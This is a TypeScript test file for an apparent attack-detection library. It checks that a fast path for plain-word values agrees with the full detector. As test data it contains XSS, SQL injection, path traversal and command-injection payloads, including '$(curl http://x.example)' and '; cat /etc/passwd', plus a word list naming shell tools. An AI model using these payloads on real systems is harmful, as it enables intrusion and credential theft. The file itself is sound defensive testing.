import assert from 'node:assert/strict';
import { describe, it } from 'node:test';
import { DEFAULT_DETECTOR_OPTIONS, inspectValue, type ParanoiaLevel } from '../../../src/threat/detectors/index.js';
import { quietWords } from '../../../src/threat/detectors/quiet-words.js';
import { narrowed, randomStrings, rng, storedValues, wordStrings } from './value-sets.js';

/**
 * inspectValue's whole-value fast path (quiet-words.ts): a value of plain words none of which a detector looks
 * up is not read. Held to the full path: the findings are the same with it and without it at every paranoia
 * level, on the corpus, the fixture sets, those narrowed to the path's characters, and generated values
 * (words the detectors look up, commands, SQL and file names, base64 of attacks, spelled-out hex).
 */

/** Base64 (no padding, no '+' or '/') of attack text: what decodeValue reads again decoded. */
function base64Attacks(): string[] {
  const texts = ['<script>alert(1)</script>', "' or 1=1 --", '../../../../etc/passwd', '; cat /etc/passwd', '<svg onload=alert(1)>',
    'union select password from users', 'javascript:alert(document.cookie)', '$(curl http://x.example)', 'whoami && id'];
  const out: string[] = [];
  for (const t of texts) {
    for (let pad = 0; pad < 6; pad++) {
      const b = Buffer.from(' '.repeat(pad) + t).toString('base64').replace(/=+$/, '');
      if (/^[A-Za-z0-9]+$/.test(b)) out.push(b, `${b} x`, `${b}${b.slice(0, 3)}`);
      out.push(b.replace(/[+/]/g, 'A'));
    }
  }
  return out;
}

const WORDS = ['whoami', 'id', 'ls', 'cat', 'Kill', 'select', 'SELECT', 'or', 'and', 'order', 'by', 'union', 'exec', 'xp', 'cmdshell', 'passwd', 'shadow',
  'hosts', 'sleep', 'if', 'for', 'exist', 'eval', 'system', 'phpinfo', 'ping', 'netstat', 'running', 'shoes', 'Dublin', 'SKU', '1234', 'x', 'a', '0', '0x41', '0X2e',
  'x0x', 'ab_cd', '_', 'select_x', 'time', 'user', 'null', 'true', 'table', 'uname', 'curl', 'wget', 'nc', 'sh', 'bash', 'python', 'A', 'ADw', 'AC'];

function values(): string[] {
  const stored = storedValues();
  const r = rng(21);
  const hex = Array.from({ length: 200 }, () => `0x${Buffer.from(String(r())).toString('hex')}`);
  return [
    ...stored,
    ...narrowed(stored, /[^A-Za-z0-9_ ]/g, [' ', '_']),
    ...randomStrings(31, 10000, [...'abcdefghijklmnopqrstuvwxyzABXZ0123456789_  '], 20),
    ...randomStrings(32, 5000, [...'adehilmnorstwxy0 ', '.', "'", '%', '&', '+', '\\', '-', 'é'], 12),
    ...wordStrings(33, 20000, WORDS, [' ', '  ', '_', ''], ['', ' ', '  '], 4),
    ...base64Attacks(), ...hex,
  ];
}

describe('quiet words (inspectValue whole-value fast path)', () => {
  it('finds the same as the full path at every paranoia level', () => {
    const all = values();
    let quiet = 0, loud = 0;
    for (const v of all) {
      if (quietWords(v)) quiet++;
      else if (/^[A-Za-z0-9_ ]+$/.test(v) && inspectValue(v, { ...DEFAULT_DETECTOR_OPTIONS, paranoia: 4 }, false).length > 0) loud++;
    }
    for (const pl of [1, 2, 3, 4] as ParanoiaLevel[]) {
      const opts = { ...DEFAULT_DETECTOR_OPTIONS, paranoia: pl };
      for (let i = pl - 1; i < all.length; i += 2) { // every other value per level (each value at two levels): the run stays short
        const v = all[i]!;
        assert.deepEqual(inspectValue(v, opts), inspectValue(v, opts, false), `PL${pl} ${JSON.stringify(v)}`);
      }
    }
    // the path is taken, and values of its characters that do have findings are in the set
    assert.ok(quiet > 10000, `quiet ${quiet}`);
    assert.ok(loud > 2000, `plain-word values with findings ${loud}`);
  });

  it('leaves values with a looked-up word, spelled-out hex, base64 of text or another character to the full path', () => {
    for (const v of ['running shoes', 'Dublin city', 'SKU 1234 XL', 'ab_cd', '2024', 'hello world']) assert.ok(quietWords(v), v);
    for (const v of ['cat notes', 'x OR y', 'passwd', 'SELECT', 'ab 0x41', 'Kill Bill', base64Attacks()[0]!, 'a-b', "a'b", 'Seán', 'a\tb', 'whoami']) assert.ok(!quietWords(v), v);
  });
});
